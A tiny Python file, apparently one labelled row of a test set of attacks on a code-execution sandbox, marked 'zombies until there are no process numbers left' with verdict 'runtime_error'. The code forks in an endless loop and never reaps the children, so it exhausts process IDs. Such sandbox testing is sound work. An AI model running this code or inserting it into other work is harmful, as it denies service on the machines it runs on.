# row: I6
# attack: zombies until there are no process numbers left
# problem: split
# verdict: runtime_error
import os
while True:
    if os.fork() == 0:
        os._exit(0)
